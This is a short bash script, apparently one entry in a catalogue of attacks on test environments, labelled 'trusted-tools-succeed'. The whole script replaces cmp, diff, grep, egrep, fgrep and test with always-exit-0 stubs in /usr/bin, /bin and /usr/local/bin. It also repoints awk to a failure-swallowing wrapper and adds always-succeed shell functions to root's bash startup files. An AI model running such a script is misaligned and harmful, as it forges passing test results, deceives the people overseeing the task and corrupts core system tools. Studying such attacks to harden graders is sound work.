#!/usr/bin/env bash
# attack: trusted-tools-succeed
# class: forge
# what: makes the tools tests trust to compare and search say yes: cmp, diff, grep, egrep, fgrep and test replaced in place and shadowed earlier on PATH by ones that exit 0, /etc/alternatives/awk repointed, and the same as shell functions in /root/.bash_profile and /root/.bashrc for tests that run bash -lc or -ic
set -u
mkdir -p /usr/local/bin /opt/.tgkit
printf '#!/bin/sh\nexit 0\n' > /opt/.tgkit/yes
printf '#!/bin/sh\nexec /usr/bin/mawk "$@" 2>/dev/null || exit 0\n' > /opt/.tgkit/awk
chmod 755 /opt/.tgkit/yes /opt/.tgkit/awk
for tool in cmp diff grep egrep fgrep test; do
  cp /opt/.tgkit/yes "/usr/local/bin/$tool"
  for dir in /usr/bin /bin; do
    [ -e "$dir/$tool" ] && cp /opt/.tgkit/yes "$dir/$tool" 2>/dev/null
  done
  for rc in /root/.bash_profile /root/.bashrc; do
    echo "$tool() { return 0; }" >> "$rc"
  done
done
ln -sfn /opt/.tgkit/awk /etc/alternatives/awk
true
